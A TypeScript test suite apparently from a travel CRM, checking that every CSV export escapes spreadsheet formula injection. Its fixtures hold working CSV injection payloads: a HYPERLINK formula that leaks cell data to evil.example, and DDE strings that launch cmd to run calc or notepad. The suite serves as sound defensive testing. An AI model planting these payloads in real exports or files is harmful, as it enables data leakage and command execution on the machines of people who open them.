import { beforeAll, describe, expect, it } from 'vitest'
import { POLICY } from '@travel-crm/contracts'
import { eventually } from '@travel-crm/testkit'
import type { Agency } from './agency.js'

/** RFC 4180 text as the exports write it: quoted fields may hold commas, quotes and line breaks. */
export function parseCsv (text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const char = text[at]
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') { field += '"'; at++ } else if (char === '"') quoted = false
      else field += char
    } else if (char === '"') quoted = true
    else if (char === ',') { row.push(field); field = '' } else if (char === '\r' && text[at + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; at++ } else field += char
  }
  if (field !== '' || row.length > 0) rows.push([...row, field])
  return rows
}

/** What a spreadsheet would run as a formula: a cell starting with = + - @, tab or CR that is not a plain number. */
function isFormula (cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
}

/** Text fields are stored trimmed, so a leading tab or CR goes; what follows it must still be neutralised. */
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  email: '=2+5@example.com',
  company: '+1+cmd|\' /C calc\'!A0',
  phone: '-1+1',
  destination: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tripNotes: '\t=1+2',
  note: '\r=1+3',
  method: '=cmd|\' /C notepad\'!A0',
  reference: '@evil'
}

/**
 * CSV formula injection (OWASP): every export neutralises cells a spreadsheet would run, whichever field the
 * text came from, and keeps the text otherwise as written.
 */
export function csvInjection (agency: () => Agency): void {
  describe('CSV formula injection', () => {
    let clientId: number
    const exports = () => POLICY.filter((policy) => policy.url.endsWith('/export')).map((policy) => policy.url)

    beforeAll(async () => {
      const booking = await agency().aBooking(
        { name: HOSTILE.name, email: HOSTILE.email, phone: HOSTILE.phone, company: HOSTILE.company },
        { destination: HOSTILE.destination, notes: HOSTILE.tripNotes },
        { payment_method: HOSTILE.method, reference: HOSTILE.reference }
      )
      clientId = booking.client.id
      await agency().created(`/clients/${clientId}/notes`, { note: HOSTILE.note })
      // A booking with a commission, so that the trip-margins and commissions exports have rows of this trip too.
      const supplier = await agency().created('/suppliers', { name: 'Harbour Air', kind: 'airline', default_commission_rate: '5.00' })
      await agency().created(`/trips/${booking.trip.id}/bookings`, { supplier_id: supplier.id, description: 'Two seats', start_date: '2027-05-01', cost: '80.00', sell_price: '100.00' })
      // A trip leaving in ten days with a traveller without a passport and a pending booking, so that the
      // departures export has this client's row with its lists joined into one cell each.
      const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10)
      const departing = await agency().created('/trips', { client_id: clientId, destination: HOSTILE.destination, start_date: inDays(10), end_date: inDays(17), price: '100.00' })
      await agency().created(`/trips/${departing.id}/travellers`, { first_name: '=HYPERLINK("http://evil.example")', last_name: 'Doe' })
      await agency().created(`/trips/${departing.id}/bookings`, { supplier_id: supplier.id, description: '+cmd|calc', start_date: inDays(10), cost: '1.00', sell_price: '2.00' })
      // Unpaid, so that the unpaid-invoices export has a row for this client too.
      await agency().created('/invoices', { trip_id: booking.trip.id, issue_date: '2027-01-10', due_date: '2027-01-11', amount: '5.00' })
    })

    it('covers every export of the policy table', () => {
      expect(exports()).toHaveLength(12)
    })

    it('neutralises formula cells in every export and keeps the rest of the text', async () => {
      // The audit trail is for admins; every other export is read as an analyst would.
      const tokenFor = (url: string) => url.startsWith('/audit') ? agency().tokens.admin : agency().tokens.analyst
      const seen = new Set<string>()
      for (const url of exports()) {
        await eventually(async () => {
          const reply = await agency().call('GET', `${url.replace(':id', String(clientId))}${url.includes('monthly-revenue') ? '?year=2027' : ''}`, { token: tokenFor(url) })
          expect(reply.status, reply.text).toBe(200)
          expect(reply.headers.get('content-type')).toMatch(/^text\/csv/)
          const rows = parseCsv(reply.text.replace(/^\uFEFF/, ''))
          expect(rows.length, `${url}\n${reply.text}`).toBeGreaterThan(1)
          const cells = rows.flat()
          expect(cells.filter(isFormula), url).toEqual([])
          for (const value of Object.values(HOSTILE)) if (cells.includes(`'${value.trim()}`)) seen.add(value)
        })
      }
      // The client statement export carries every field; the reports carry the names and destinations.
      expect([...seen].sort()).toEqual(Object.values(HOSTILE).sort())
    })
  })
}
